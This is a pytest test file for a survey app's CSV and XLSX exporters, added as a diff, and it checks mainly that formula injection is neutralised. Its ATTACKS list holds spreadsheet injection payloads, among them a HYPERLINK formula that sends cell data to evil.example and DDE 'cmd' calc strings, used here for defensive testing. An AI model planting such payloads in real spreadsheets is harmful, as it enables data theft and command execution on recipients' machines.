@@ -1,0 +1,130 @@
+"""surveyapp.exports: CSV/XLSX writers, checked on the bytes they produce."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from surveyapp import exports
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "+81-3-1234",
+    "-1+2",
+]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\x00")
+
+
+def csv_bytes(header, rows) -> bytes:
+    return b"".join(exports.csv_chunks(header, rows))
+
+
+def parsed_csv(data: bytes) -> list[list[str]]:
+    text = data.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def xlsx_sheet(rows, title="回答", header=("値",), **kwargs):
+    out = io.BytesIO()
+    exports.write_xlsx(out, [exports.Sheet(title, list(header), rows, **kwargs)])
+    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))[title]
+
+
+def body_cells(worksheet):
+    return [cell for row in worksheet.iter_rows(min_row=2) for cell in row]
+
+
+def test_csv_starts_with_a_bom_and_ends_lines_with_crlf():
+    data = csv_bytes(["a", "b"], [[1, "x"], [2, "y"]])
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert data.count(b"\r\n") == 3 and data.replace(b"\r\n", b"").count(b"\n") == 0
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_csv_neutralises_formula_text(attack):
+    (_header, (cell,)) = parsed_csv(csv_bytes(["v"], [[attack]]))
+    assert cell == "'" + attack
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_xlsx_neutralises_formula_text(attack):
+    (cell,) = body_cells(xlsx_sheet([[attack]]))
+    # XML reads a stored CR back as LF; the apostrophe in front is what matters.
+    assert cell.value == "'" + attack.replace("\r", "\n") and cell.data_type == "s"
+
+
+def test_numbers_stay_numbers_in_csv():
+    _header, row = parsed_csv(csv_bytes(["a", "b", "c"], [[-1, 2.5, "-1+2"]]))
+    assert row == ["-1", "2.5", "'-1+2"]
+
+
+def test_numbers_stay_numbers_in_xlsx():
+    cells = body_cells(xlsx_sheet([[-1, 2.5, True, "-1"]], header=("a", "b", "c", "d")))
+    assert [(c.value, c.data_type) for c in cells] == [
+        (-1, "n"), (2.5, "n"), (1, "n"), ("'-1", "s")]
+
+
+def test_none_is_an_empty_cell_in_both_formats():
+    assert parsed_csv(csv_bytes(["a"], [[None]]))[1] == [""]
+    assert body_cells(xlsx_sheet([[None, 1]], header=("a", "b")))[0].value is None
+
+
+def test_control_characters_xlsx_cannot_hold_are_removed():
+    (cell,) = body_cells(xlsx_sheet([["a\x01b\x1fc\x0b"]]))
+    assert cell.value == "abc"
+    assert parsed_csv(csv_bytes(["v"], [["a\x01b"]]))[1] == ["ab"]
+
+
+def test_a_leading_nul_is_removed_and_what_follows_neutralised():
+    assert parsed_csv(csv_bytes(["v"], [["\x00=1+1"]]))[1] == ["'=1+1"]
+
+
+def test_header_cells_are_neutralised_too():
+    assert parsed_csv(csv_bytes(["=x"], []))[0] == ["'=x"]
+
+
+def test_xlsx_has_the_japanese_sheet_name_and_a_frozen_bold_header():
+    worksheet = xlsx_sheet([[1]], title="得点", header=("overall",))
+    assert worksheet.title == "得点" and worksheet.freeze_panes == "A2"
+    assert worksheet["A1"].font.b
+
+
+def test_xlsx_column_widths_follow_the_header_or_the_given_width():
+    worksheet = xlsx_sheet([["x", "y"]], header=("所属名称", "v"), widths={"v": 30})
+    assert worksheet.column_dimensions["A"].width == 10  # 4 full-width chars + 2
+    assert worksheet.column_dimensions["B"].width == 30
+
+
+def test_xlsx_number_formats_keep_full_precision():
+    (cell,) = body_cells(xlsx_sheet([[83.33333333333333]], header=("overall",),
+                                    formats={"overall": "0.0"}))
+    assert cell.value == 83.33333333333333 and cell.number_format == "0.0"
+
+
+def test_unneutralise_undoes_neutralise_only():
+    assert exports.unneutralise(exports.neutralise("=1")) == "=1"
+    assert exports.unneutralise("'quoted'") == "'quoted'"
+
+
+def test_csv_streams_in_chunks():
+    chunks = list(exports.csv_chunks(["n"], ([i] for i in range(1200))))
+    assert len(chunks) == 3
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
+def test_no_text_cell_starts_dangerously_in_either_format(texts):
+    header = [f"c{i}" for i in range(len(texts))]
+    csv_cells = parsed_csv(csv_bytes(header, [texts]))[1]
+    xlsx_cells = [c.value for c in body_cells(xlsx_sheet([texts], header=header))]
+    for value in csv_cells + [v for v in xlsx_cells if isinstance(v, str)]:
+        assert not value.startswith(DANGEROUS)
